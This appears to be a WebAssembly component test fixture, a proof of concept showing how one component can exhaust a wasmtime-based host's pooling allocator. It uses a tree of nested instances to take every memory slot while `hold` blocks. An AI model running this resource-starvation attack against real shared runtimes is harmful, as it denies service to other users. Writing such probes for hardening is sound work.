;; Pool starvation: one instance of this tiny component takes 256 linear
;; memories, 256 tables and 257 core instances out of the engine-wide
;; pooling allocator, for as long as one call runs.
;;
;; The attack. Corral sizes its pooling allocator per call slot:
;; `max_concurrent_calls` (default 64) × 4 memories, × 16 tables and × 32
;; core instances, shared by every component; wasmtime's defaults put no
;; bound on what ONE component instance may take. A module `$slot` that
;; defines one empty memory and one empty table is instantiated 256 times
;; through a binary tree of nested components (`$x1` has 1 instance of it,
;; `$x2` two of `$x1`, … `$x256` two of `$x128`); wasmtime flattens the tree
;; into one component instance with 256 core instances of `$slot`. At the
;; default of 64 slots that is every memory of the pool (256 = 64 × 4), so
;; while `hold` runs, instantiating any other component fails, and this one
;; cannot be instantiated at all while any other call holds a memory (or
;; when the pool has fewer than 256 memories). To take a different number,
;; instantiate another level of the tree at the end (`$x128` for 128, two
;; `$x256` for 512).
;;
;; Exports (world-level function; the `package-docs` section below carries
;; its description):
;; - hold(ms: u32) -> u32
;;     Blocks for `ms` milliseconds on a wasi:clocks monotonic-clock
;;     pollable (no fuel is used while it waits), then returns `ms`. The
;;     call keeps every pool slot of the instance until it returns or its
;;     deadline stops it.
;;
;; Imports: wasi:io/poll and wasi:clocks/monotonic-clock only (no grant).
(component $pool
  (import "wasi:io/poll@0.2.0" (instance $poll
    (export "pollable" (type $pollable (sub resource)))
    (export "[method]pollable.block" (func (param "self" (borrow $pollable))))
  ))
  (alias export $poll "pollable" (type $pollable))
  (import "wasi:clocks/monotonic-clock@0.2.0" (instance $clock
    (alias outer $pool $pollable (type $outer-pollable))
    (export "pollable" (type $p (eq $outer-pollable)))
    (export "subscribe-duration" (func (param "when" u64) (result (own $p))))
  ))

  ;; One pool memory and one pool table per instance.
  (core module $slot
    (memory 0)
    (table 0 funcref))
  (component $x1
    (alias outer $pool $slot (core module $slot))
    (core instance (instantiate $slot)))
  (component $x2
    (alias outer $pool $x1 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x4
    (alias outer $pool $x2 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x8
    (alias outer $pool $x4 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x16
    (alias outer $pool $x8 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x32
    (alias outer $pool $x16 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x64
    (alias outer $pool $x32 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x128
    (alias outer $pool $x64 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (component $x256
    (alias outer $pool $x128 (component $c))
    (instance (instantiate $c)) (instance (instantiate $c)))
  (instance (instantiate $x256))

  ;; `hold`: subscribe to a duration, block on it, drop the pollable.
  (core func $subscribe (canon lower (func $clock "subscribe-duration")))
  (core func $block (canon lower (func $poll "[method]pollable.block")))
  (core func $drop (canon resource.drop $pollable))
  (core module $holder
    (import "wasi" "subscribe-duration" (func $subscribe (param i64) (result i32)))
    (import "wasi" "block" (func $block (param i32)))
    (import "wasi" "drop" (func $drop (param i32)))
    (func (export "hold") (param $ms i32) (result i32)
      (local $pollable i32)
      (local.set $pollable
        (call $subscribe
          (i64.mul (i64.extend_i32_u (local.get $ms)) (i64.const 1000000))))
      (call $block (local.get $pollable))
      (call $drop (local.get $pollable))
      (local.get $ms)))
  (core instance $holder (instantiate $holder
    (with "wasi" (instance
      (export "subscribe-duration" (func $subscribe))
      (export "block" (func $block))
      (export "drop" (func $drop))))))
  (func (export "hold") (param "ms" u32) (result u32)
    (canon lift (core func $holder "hold")))

  (@custom "package-docs" "\01{\"worlds\":{\"pool-starve\":{\"func_exports\":{\"hold\":{\"docs\":\"Pool starvation: one instance of this component holds 256 memories, 256 tables and 257 core instances of the engine-wide pool; blocks for `ms` milliseconds on a monotonic-clock pollable, then returns `ms`.\"}}}}}")
)
